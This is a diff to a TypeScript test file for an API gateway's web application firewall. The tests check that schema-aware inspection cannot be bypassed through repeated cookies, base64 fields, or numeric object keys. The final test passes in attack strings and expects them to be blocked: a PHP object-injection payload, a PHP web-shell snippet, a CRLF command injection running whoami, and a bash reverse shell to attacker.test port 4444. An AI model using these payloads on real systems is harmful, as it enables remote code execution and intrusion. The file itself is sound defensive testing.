@@ -2,9 +2,11 @@
  * The WAF's use of what the gateway knows beyond ModSecurity, end to end: path parameters as
  * arguments (ARGS_PATH), and schema-aware inspection once `openapi-validation` held a request to
  * the API's document — typed values unread, free text read by high-confidence rules only,
- * identifiers by every rule — without letting a repeated parameter or a dotted JSON name borrow
- * a typed field's pass. A rule set of two rules of our own (CRS layout) makes each outcome depend
- * on one rule: `select` as a word (low confidence) and `<script` (tagged `confidence/high`).
+ * identifiers by every rule — without letting a repeated parameter or cookie, a dotted JSON name,
+ * base64 or an object's numeric key borrow a typed field's pass. A rule set of two rules of our
+ * own (CRS layout) makes each outcome depend on one rule: `select` as a word (low confidence) and
+ * `<script` (tagged `confidence/high`); with the built-in profile, free text is read by every rule
+ * that blocks without the document.
  */
 import assert from 'node:assert/strict'
 import { after, before, describe, test } from 'node:test'
@@ -13,7 +15,7 @@ import { baseConfig, startTestGateway, type TestGateway } from '../helpers/gatew
 import { startUpstream, type TestUpstream } from '../helpers/upstream.js'
 
 const SETUP = `SecAction "id:900990,phase:1,pass,nolog,setvar:tx.crs_setup_version=4280"\n`
-const RULES = `SecRule ARGS "@rx (?i)\\bselect\\b" "id:100001,phase:2,deny,status:403,t:none,t:urlDecodeUni,msg:'the word select'"
+const RULES = `SecRule ARGS|REQUEST_COOKIES "@rx (?i)\\bselect\\b" "id:100001,phase:2,deny,status:403,t:none,t:urlDecodeUni,msg:'the word select'"
 SecRule ARGS "@rx (?i)<script" "id:100002,phase:2,deny,status:403,t:none,msg:'script tag',tag:'confidence/high'"
 `
 
@@ -33,6 +35,7 @@ const DOCUMENT = {
           { name: 'ref', in: 'query', schema: { type: 'string', format: 'int64' } },
           { name: 'code', in: 'query', schema: { type: 'string', pattern: '^[A-z0-9 ]+$' } },
           { name: 'slug', in: 'query', schema: { type: 'string', pattern: '^[a-z0-9-]+$' } },
+          { name: 'view', in: 'cookie', schema: { type: 'string', enum: ['grid', 'list'] } },
         ],
         responses: { '200': { description: 'ok' } },
       },
@@ -50,6 +53,11 @@ const DOCUMENT = {
                   description: { type: 'string', maxLength: 4000 },
                   tags: { type: 'array', items: { type: 'string', pattern: '^[a-z0-9-]+$' } },
                   meta: { type: 'object', properties: { count: { type: 'integer' } } },
+                  // Base64: any bytes, a serialized Java object (rO0AB…) among them.
+                  avatar: { type: 'string', format: 'byte' },
+                  // No `type`: `items` holds arrays to integers, `additionalProperties` objects; anything else passes.
+                  scores: { items: { type: 'integer' } },
+                  weights: { additionalProperties: { type: 'number' } },
                 },
               },
             },
@@ -61,10 +69,11 @@ const DOCUMENT = {
   },
 }
 
-async function status(gw: TestGateway, method: string, path: string, body?: unknown): Promise<number> {
+async function status(gw: TestGateway, method: string, path: string, body?: unknown, headers: Record<string, string> = {}): Promise<number> {
   const response = await request(`${gw.url}${path}`, {
     method: method as 'GET',
-    ...(body === undefined ? {} : { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }),
+    headers: { ...headers, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
+    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
   })
   await response.body.dump()
   return response.statusCode
@@ -84,6 +93,7 @@ describe('waf: path parameters and schema-aware inspection', () => {
       { name: 'unaware', basePath: '/unaware', openapi: 'items.json', upstream: { url: upstream.url }, policies: { 'openapi-validation': {}, waf: { ...waf, schemaAware: false } } },
       { name: 'unvalidated', basePath: '/unvalidated', openapi: 'items.json', upstream: { url: upstream.url }, policies: { waf } },
       { name: 'raw', basePath: '/raw', upstream: { url: upstream.url }, policies: { waf: {} } },
+      { name: 'builtin-aware', basePath: '/builtin-aware', openapi: 'items.json', upstream: { url: upstream.url }, policies: { 'openapi-validation': {}, waf: {} } },
     ]
     gw = await startTestGateway(config, {
       files: { 'items.json': JSON.stringify(DOCUMENT), 'rules-dir/crs-setup.conf': SETUP, 'rules-dir/rules/REQUEST-100-TEST.conf': RULES },
@@ -130,5 +140,40 @@ describe('waf: path parameters and schema-aware inspection', () => {
     // `{"meta.count": …}` is an undeclared property to the validator and `json.meta.count` to the WAF.
     assert.equal(await status(gw, 'POST', '/aware/items', { meta: { count: 3 } }), 200)
     assert.equal(await status(gw, 'POST', '/aware/items', { 'meta.count': 'select' }), 403)
+  })
+
+  test('a cookie the validator read twice gets no pass: it checked only the last one', async () => {
+    const cookie = (value: string) => ({ cookie: value })
+    assert.equal(await status(gw, 'GET', '/aware/items/widget', undefined, cookie('view=grid')), 200)
+    assert.equal(await status(gw, 'GET', '/aware/items/widget', undefined, cookie('view=1 select')), 400)
+    assert.equal(await status(gw, 'GET', '/aware/items/widget', undefined, cookie('view=1 select; view=grid')), 403)
+    // The validator trims `view ` to `view` (last wins: grid); a server that takes the first sees `1 select`.
+    assert.equal(await status(gw, 'GET', '/aware/items/widget', undefined, cookie('view=1 select; view =grid')), 403)
+    assert.equal(await status(gw, 'GET', '/unaware/items/widget', undefined, cookie('view=1 select; view =grid')), 403)
+  })
+
+  test('base64 (`format: byte`) is no type an injection cannot fit in: every rule reads it', async () => {
+    const serialized = Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, 0x11, ...Buffer.from('java.util.HashMap')]).toString('base64')
+    assert.ok(serialized.startsWith('rO0AB'))
+    assert.equal(await status(gw, 'POST', '/builtin-aware/items', { title: 'Chair', avatar: 'iVBORw0KGgo=' }), 200)
+    assert.equal(await status(gw, 'POST', '/builtin-aware/items', { title: 'Chair', avatar: serialized }), 403)
+    assert.equal(await status(gw, 'POST', '/aware/items', { title: 'Chair', avatar: 'AAAA+select+' }), 403)
+  })
+
+  test('a numeric name is an array index only where the document holds the value to an array', async () => {
+    assert.equal(await status(gw, 'POST', '/aware/items', { scores: [1, 2], weights: { a: 0.5 } }), 200)
+    assert.equal(await status(gw, 'POST', '/aware/items', { scores: ['1 select'] }), 400)
+    // An object with a key `0` passes where `items` is all the schema says; so does an array where `additionalProperties` is.
+    assert.equal(await status(gw, 'POST', '/aware/items', { scores: { 0: '1 select' } }), 403)
+    assert.equal(await status(gw, 'POST', '/aware/items', { weights: ['1 select'] }), 403)
+  })
+
+  test('with the built-in profile, free text is read by every rule that blocks without the document', async () => {
+    const prose = 'I ran the export twice; select all rows, then delete the duplicates -- thanks!'
+    assert.equal(await status(gw, 'POST', '/builtin-aware/items', { title: 'Chair', description: prose }), 200)
+    for (const attack of ['O:8:"stdClass":1:{s:4:"_fn_";s:6:"system";}', "<?php $e=$_REQUEST['c'];@assert($e); ?>", 'x\r\n cmd.exe /c whoami', ";bash -c 'bash -i >& /dev/tcp/attacker.test/4444 0>&1'"]) {
+      assert.equal(await status(gw, 'POST', '/raw/items', { title: 'Chair', description: attack }), 403, attack)
+      assert.equal(await status(gw, 'POST', '/builtin-aware/items', { title: 'Chair', description: attack }), 403, attack)
+    }
   })
 })
